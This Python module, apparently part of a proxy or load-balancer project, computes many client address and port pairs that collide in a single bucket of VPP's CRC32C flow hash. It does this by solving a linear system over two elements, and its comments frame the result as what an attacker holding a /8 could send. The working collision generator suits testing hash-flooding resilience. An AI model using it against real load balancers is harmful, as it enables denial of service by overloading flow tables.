"""How flows are made that all fall into one bucket of VPP's hash: by solving equations, not by trying.

CRC32C is linear: flipping a bit of the packet flips the same bits of the hash, whatever the other bits are. So 48 bits
that a client may choose (address and port) give 48 words, and the combinations of them whose low bits cancel each
other are the solutions of a linear system over two elements. With 2^10 buckets 2^38 flows share one.
"""

from __future__ import annotations

import numpy as np

from kuproxy.dataplane.hash import hash_words, ports_word

ADDRESS_BITS, PORT_BITS = 24, 16  # of an IPv4 client: the attacker has a /8, and every port


def vpp_hash(client: int, port: int, vip: int, vip_port: int) -> int:
    """Flow hash of IPv4 addresses and ports, all numbers in host order."""
    zero = np.uint64(0)
    lo = [np.uint64(int.from_bytes(each.to_bytes(4, "big"), "little") << 32) for each in (client, vip)]
    word = ports_word(np.int64(port), np.int64(vip_port))
    return int(hash_words(np.int64(4), zero, lo[0], zero, lo[1], np.uint64(word)))


def _null_space(columns: list[int]) -> list[int]:
    """Combinations of columns (bit n of a result: column n takes part) whose sum over two elements is zero."""
    pivots: dict[int, tuple[int, int]] = {}  # by leading bit: value and who takes part
    found = []
    for number, column in enumerate(columns):
        value, parts = column, 1 << number
        while value and (lead := value.bit_length()) in pivots:
            other, its_parts = pivots[lead]
            value, parts = value ^ other, parts ^ its_parts
        if value:
            pivots[value.bit_length()] = value, parts
        else:
            found.append(parts)
    return found


def colliding(
    first_client: int, first_port: int, vip: int, vip_port: int, log2_buckets: int, count: int
) -> tuple[np.ndarray, np.ndarray]:
    """(addresses, ports), uint32[count] and uint16[count], of clients that share a bucket with the first one.

    The first one's low ADDRESS_BITS are varied, and its port.
    """
    mask = (1 << log2_buckets) - 1

    def low(client: int, port: int) -> int:
        return vpp_hash(client, port, vip, vip_port) & mask

    origin = low(first_client, first_port)
    columns = [low(first_client ^ 1 << bit, first_port) ^ origin for bit in range(ADDRESS_BITS)]
    columns += [low(first_client, first_port ^ 1 << bit) ^ origin for bit in range(PORT_BITS)]
    basis = _null_space(columns)
    if 1 << len(basis) <= count:
        raise ValueError(f"only {1 << len(basis)} flows share a bucket")
    numbers = np.arange(1, count + 1, dtype=np.uint64)
    words = np.full(count, first_client & (1 << ADDRESS_BITS) - 1 | first_port << ADDRESS_BITS, np.uint64)
    for place, parts in enumerate(basis):
        words ^= np.where((numbers >> np.uint64(place)) & np.uint64(1) == 1, np.uint64(parts), np.uint64(0))
    network = first_client >> ADDRESS_BITS << ADDRESS_BITS
    addresses = network + (words & np.uint64((1 << ADDRESS_BITS) - 1))
    return addresses.astype(np.uint32), (words >> np.uint64(ADDRESS_BITS)).astype(np.uint16)


